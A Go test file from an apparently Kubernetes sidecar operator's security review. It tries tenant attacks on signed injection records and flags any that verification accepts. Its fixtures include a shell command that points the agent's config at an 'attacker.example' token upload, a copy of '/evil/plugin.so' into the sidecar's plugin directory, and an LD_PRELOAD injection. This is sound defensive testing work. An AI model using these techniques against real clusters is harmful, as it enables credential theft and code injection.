package signing

// Second review (branch review2): attacks a tenant who creates pods (with a
// copied record, or through a namespaced policy of its own) can make on what
// verification tolerates. A test that FAILS shows a hole in docs/security.md's
// promises; a blocked attack passes and logs why.

import (
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/sidecar-operator/sidecar-operator/api/v1alpha1"
)

// Attack 1: a regular container of the tenant's mounts the sidecar's work
// emptyDir, which the Sidecar does not share (the injected agent-init fills
// it with the agent's config), and rewrites agent.yaml: kubelet starts "app"
// before "agent" (spec order, each pulled and started in turn), so the agent
// reads the tenant's config beside the credential confined to it. Review 1
// closed this for init containers only (TestReviewTenantInitBeforeARegularSidecar).
func TestReview2AppContainerWritesTheSidecarsWorkDir(t *testing.T) {
	r := ring(t, map[string][]byte{"k1000": secretOf(1)}, 0)
	pod := confinedPod()
	rec := sealConfined(t, r, pod)
	pod.Spec.Containers[0].Command = []string{"sh", "-c", "echo 'upload_token_to: https://attacker.example' > /work/agent.yaml; sleep inf"}
	pod.Spec.Containers[0].VolumeMounts = []corev1.VolumeMount{{Name: "agent-work", MountPath: "/work"}}
	if err := r.Verify(pod, "uid", false, rec); err == nil {
		t.Errorf("HOLE: the tenant's regular container \"app\" mounts the sidecar's unshared work emptyDir (filled by agent-init) " +
			"and runs before \"agent\", which holds a Secret; the record verifies, so the pod gets the grant while the tenant writes " +
			"what the agent reads (docs/security.md: \"none of the pod's [init containers] may mount a volume the sidecar mounts\" " +
			"is kept for init containers only; regular ones are never asked)")
	} else {
		t.Logf("blocked: %v", err)
	}
}

// Attack 2: a native sidecar (init container, restartPolicy Always) that
// holds a Secret. The table: "init containers, where the sidecar holds a
// credential: none of the pod's may mount a volume the sidecar mounts".
// checkPlacement looks only before a native sidecar; an init container of
// the tenant's after it runs while the sidecar runs, with its volumes.
func TestReview2InitAfterNativeSidecarWithCredential(t *testing.T) {
	r := ring(t, map[string][]byte{"k1000": secretOf(1)}, 0)
	always := corev1.ContainerRestartPolicyAlways
	work := corev1.VolumeMount{Name: "agent-work", MountPath: "/work"}
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "p", Namespace: "ns"},
		Spec: corev1.PodSpec{
			InitContainers: []corev1.Container{{Name: "agent", Image: "registry.example.com/agent:1.4.0", RestartPolicy: &always,
				VolumeMounts: []corev1.VolumeMount{{Name: "agent-token", MountPath: "/var/run/agent", ReadOnly: true}, work}}},
			Containers: []corev1.Container{{Name: "app", Image: "app"}},
			Volumes: []corev1.Volume{
				{Name: "agent-token", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "admin-token"}}},
				{Name: "agent-work", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}},
			},
		},
	}
	rec := &v1alpha1.InjectionRecord{Name: "agent", Revision: "r1", Containers: []string{"agent"}}
	seal(pod, rec, 1)
	r.Sign("ns", "", "uid", rec)
	pod.Annotations = map[string]string{v1alpha1.AnnotationStatus: `{"sidecars":[{"name":"agent","containers":["agent"]}]}`}
	if err := r.Verify(pod, "uid", false, rec); err != nil {
		t.Fatalf("setup: %v", err)
	}
	pod.Spec.InitContainers = append(pod.Spec.InitContainers, corev1.Container{Name: "late", Image: "attacker/writer",
		Command: []string{"sh", "-c", "cp /evil/plugin.so /work/plugins/"}, VolumeMounts: []corev1.VolumeMount{work}})
	if err := r.Verify(pod, "uid", false, rec); err == nil {
		t.Errorf("HOLE: a tenant init container after the native sidecar \"agent\" (which holds Secret admin-token) mounts its " +
			"volume agent-work and the record verifies: it writes the running sidecar's files")
	} else {
		t.Logf("blocked: %v", err)
	}
}

// Attack 3: imagePullPolicy is not covered ("they do not decide what
// runs"). For a mutable tag it does: the Sidecar renders Always, and a copy
// (or a tenant's policy) sets Never or IfNotPresent, so the node's cached,
// older build of agent:1.4.0 runs beside the credential. Review 1 refused
// digest pins for credential holders for exactly this reason.
func TestReview2PullPolicyRunsACachedBuild(t *testing.T) {
	r := ring(t, map[string][]byte{"k1000": secretOf(1)}, 0)
	pod := confinedPod()
	pod.Spec.Containers[1].ImagePullPolicy = corev1.PullAlways
	rec := sealConfined(t, r, pod)
	pod.Spec.Containers[1].ImagePullPolicy = corev1.PullNever
	if err := r.Verify(pod, "uid", false, rec); err == nil {
		t.Errorf("HOLE: the credential-holding sidecar rendered with imagePullPolicy Always verifies with Never: " +
			"whatever build of the mutable tag the node cached runs with the credential (same effect as the refused digest pin)")
	} else {
		t.Logf("blocked: %v", err)
	}
}

// Attack 4: kubelet also expands $(NAME) in a volumeMount's subPathExpr,
// which the $(NAME) rule does not scan: an added env entry picks the
// subdirectory of its volume the sidecar reads its config from.
func TestReview2AddedEnvSteersSubPathExpr(t *testing.T) {
	r := ring(t, map[string][]byte{"k1000": secretOf(1)}, 0)
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "p", Namespace: "ns"},
		Spec: corev1.PodSpec{
			Containers: []corev1.Container{{Name: "app", Image: "app"},
				{Name: "agent", Image: "agent:1", VolumeMounts: []corev1.VolumeMount{{Name: "profiles", MountPath: "/etc/agent", SubPathExpr: "$(AGENT_PROFILE)"}}}},
			Volumes: []corev1.Volume{{Name: "profiles", VolumeSource: corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{
				LocalObjectReference: corev1.LocalObjectReference{Name: "agent-profiles"}}}}},
		},
	}
	rec := &v1alpha1.InjectionRecord{Name: "agent", Revision: "r1", Containers: []string{"agent"}}
	seal(pod, rec, 0)
	r.Sign("ns", "", "uid", rec)
	pod.Spec.Containers[1].Env = append(pod.Spec.Containers[1].Env, corev1.EnvVar{Name: "AGENT_PROFILE", Value: "debug-unauthenticated"})
	if err := r.Verify(pod, "uid", false, rec); err == nil {
		t.Errorf("HOLE: env AGENT_PROFILE added after injection changes what the webhook's subPathExpr $(AGENT_PROFILE) mounts, and verifies " +
			"(expanded() scans command, args and env, not volumeMounts[].subPathExpr)")
	} else {
		t.Logf("blocked: %v", err)
	}
}

// Attack 5: volumes that hold a credential but are not counted as one
// (Secret, CSI, projected token/Secret/podCertificate are): LD_PRELOAD
// added to a sidecar that mounts them verifies.
func TestReview2UncountedCredentialVolumes(t *testing.T) {
	r := ring(t, map[string][]byte{"k1000": secretOf(1)}, 0)
	ref := &corev1.LocalObjectReference{Name: "storage-credentials"}
	sock := corev1.HostPathSocket
	for name, src := range map[string]corev1.VolumeSource{
		"hostPath socket of a node agent (SPIRE, a node's docker/containerd)": {HostPath: &corev1.HostPathVolumeSource{Path: "/run/spire/agent.sock", Type: &sock}},
		"generic ephemeral volume (a CSI driver through a StorageClass)": {Ephemeral: &corev1.EphemeralVolumeSource{VolumeClaimTemplate: &corev1.PersistentVolumeClaimTemplate{
			Spec: corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce}, StorageClassName: new("secrets-csi")}}}},
		"flexVolume with secretRef": {FlexVolume: &corev1.FlexVolumeSource{Driver: "vendor/cifs", SecretRef: ref}},
		"cephfs with secretRef":     {CephFS: &corev1.CephFSVolumeSource{Monitors: []string{"10.0.0.1:6789"}, SecretRef: ref}},
		"iscsi with CHAP secretRef": {ISCSI: &corev1.ISCSIVolumeSource{TargetPortal: "10.0.0.2:3260", IQN: "iqn.2001-04.com.example:storage", SecretRef: ref, SessionCHAPAuth: true}},
		"azureFile (its Secret)":    {AzureFile: &corev1.AzureFileVolumeSource{SecretName: "storage-credentials", ShareName: "share"}},
	} {
		pod := &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{Name: "p", Namespace: "ns"},
			Spec: corev1.PodSpec{
				Containers: []corev1.Container{{Name: "app", Image: "app"},
					{Name: "agent", Image: "agent:1", VolumeMounts: []corev1.VolumeMount{{Name: "cred", MountPath: "/cred"}}}},
				Volumes: []corev1.Volume{{Name: "cred", VolumeSource: src}},
			},
		}
		rec := &v1alpha1.InjectionRecord{Name: "agent", Revision: "r1", Containers: []string{"agent"}}
		seal(pod, rec, 0)
		r.Sign("ns", "", "uid", rec)
		pod.Spec.Containers[1].Env = append(pod.Spec.Containers[1].Env, corev1.EnvVar{Name: "LD_PRELOAD", Value: "/tmp/evil.so"})
		if err := r.Verify(pod, "uid", false, rec); err == nil {
			t.Errorf("HOLE: %s: LD_PRELOAD added to the sidecar that mounts it verifies (holdsCredential does not count it)", name)
		} else {
			t.Logf("blocked: %s: %v", name, err)
		}
	}
}

// Blocked: make ownedWindow pick the wrong window, or hide a shadowing
// entry. A window is taken only where it hashes as owned says, and the
// digest then holds it to the webhook's entries exactly, so a decoy window
// is either the webhook's entries again (the real ones then count as added,
// with the webhook's names) or fails the digest.
func TestReview2OwnedWindowDecoys(t *testing.T) {
	r := ring(t, map[string][]byte{"k1000": secretOf(1)}, 0)
	for name, edit := range map[string]func(c *corev1.Container){
		"exact copy of the webhook's env before it, then a shadow": func(c *corev1.Container) {
			own := append([]corev1.EnvVar(nil), c.Env...)
			c.Env = append(append(own, corev1.EnvVar{Name: "MODE", Value: "debug"}), c.Env...)
		},
		"webhook's env, then MODE again after": func(c *corev1.Container) {
			c.Env = append(c.Env, corev1.EnvVar{Name: "MODE", Value: "debug"})
		},
		"MODE shadow first, then the webhook's": func(c *corev1.Container) {
			c.Env = append([]corev1.EnvVar{{Name: "MODE", Value: "debug"}}, c.Env...)
		},
		"$$(LEVEL) is an escape kubelet does not expand: refused anyway (over-strict, not a hole)": func(c *corev1.Container) {
			c.Env = append(c.Env, corev1.EnvVar{Name: "LEVEL", Value: "trace"})
		},
	} {
		pod := &corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{Name: "p", Namespace: "ns"},
			Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "app"},
				{Name: "agent", Image: "agent:1", Args: []string{"--literal=$$(LEVEL)"},
					Env: []corev1.EnvVar{{Name: "MODE", Value: "safe"}, {Name: "ENDPOINT", Value: "https://collector"}}}}},
		}
		rec := &v1alpha1.InjectionRecord{Name: "agent", Revision: "r1", Containers: []string{"agent"}}
		seal(pod, rec, 0)
		r.Sign("ns", "", "uid", rec)
		edit(&pod.Spec.Containers[1])
		if err := r.Verify(pod, "uid", false, rec); err == nil {
			t.Errorf("%s: verifies", name)
		} else {
			t.Logf("blocked: %s: %v", name, err)
		}
	}
}
